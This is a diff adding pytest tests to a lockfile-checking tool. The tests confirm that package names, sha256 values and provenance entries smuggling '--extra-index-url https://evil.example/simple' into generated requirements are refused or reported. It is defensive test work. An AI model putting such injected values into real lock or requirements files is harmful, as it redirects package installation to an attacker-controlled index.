@@ -328,3 +328,58 @@ def test_recorded_metadata_is_what_pypi_serves(tmp_path):
     file = reader.page(small.name)[wheel_name(small.wheels[0])]
     by_ranges = parse_core_metadata(_metadata_from_wheel(file))
     assert by_ranges.same_requirements(reader.metadata(small.name, file.filename, small.wheels[0].hashes["sha256"]))
+
+
+# -- lock values that would reach generated files (issue 34) -----------------------------------------------------
+
+def test_a_package_name_with_a_newline_is_refused_before_anything_is_written(tmp_path):
+    root = tmp_path / "lockfiles"
+    shutil.copytree(LOCKS / "xpu-2.12", root / "xpu-2.12")
+    path = root / "xpu-2.12" / "pylock.linux-64.toml"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text.replace('name = "pyelftools"', 'name = "pyelftools\\n--extra-index-url https://evil.example/simple"',
+                                 1), encoding="utf-8")
+    check = run_cli("lock", "check", "--lock-root", str(root))
+    assert check.returncode == ExitCode.USAGE and str(path) in check.stderr and "is not a package name" in check.stderr
+    render = run_cli("container", "render", "--lock", str(path), "--gpu-runtime", "none", "--out", str(tmp_path / "c"))
+    assert render.returncode == ExitCode.USAGE and not (tmp_path / "c").exists()
+
+
+@pytest.mark.parametrize(("sha", "refused"), [
+    ("ab" * 32, False),  # a digest
+    ("ab" * 32 + "\n--extra-index-url https://evil.example/simple", True),
+    ("AB" * 32, True),  # not lowercase
+    ("ab" * 31, True),  # 62 digits
+])
+def test_a_sha256_that_is_not_a_digest_never_reaches_the_requirements(tmp_path, sha, refused):
+    from aipc_env.errors import InputError
+    from aipc_env.lock.artifacts import hashed_requirements, select_artifacts
+    from aipc_env.lock.lockfile import Pylock
+
+    lock = Pylock.model_validate({"lock_version": "1.0", "packages": [
+        {"name": "demo", "version": "1.0", "wheels": [{"url": "https://x.org/demo-1.0-py3-none-any.whl",
+                                                      "hashes": {"sha256": sha}}]}]})
+    if refused:
+        with pytest.raises(InputError, match="is not a sha256 digest"):
+            select_artifacts(lock, "3.12", tmp_path / "pylock.toml")
+    else:
+        assert hashed_requirements(select_artifacts(lock, "3.12", tmp_path / "pylock.toml")).endswith(
+            f"demo==1.0 --hash=sha256:{sha}\n")
+
+
+def test_xpu_wheels_relabelled_as_index_while_lock_meta_says_manifest_are_named(tmp_path):
+    root = tmp_path / "lockfiles"
+    shutil.copytree(LOCKS / "xpu-2.12", root / "xpu-2.12")
+    path = root / "xpu-2.12" / "pylock.win-64.toml"
+    text = path.read_text(encoding="utf-8")
+    start = text.index('[[packages]]\nname = "torch"\n')
+    end = text.index("[[packages]]", start + 1)
+    block = text[start:end]
+    tool = block.index("[packages.tool.aipc-env]")
+    relabelled = block[:tool] + '[packages.tool.aipc-env]\nprovenance = "index"\nindex = "https://evil.example/simple"\n\n'
+    path.write_text(text[:start] + relabelled + text[end:], encoding="utf-8")
+    result = run_cli("lock", "check", "--lock-root", str(root), "--json")
+    problems = json.loads(result.stdout)["pairs"][0]["problems"]
+    assert result.returncode == ExitCode.PROBLEMS
+    assert f"{path}: torch 2.12.0+xpu says provenance `index`, but lock-meta.json says the XPU wheels came from " \
+           "environments/xpu-wheels.yaml" in problems
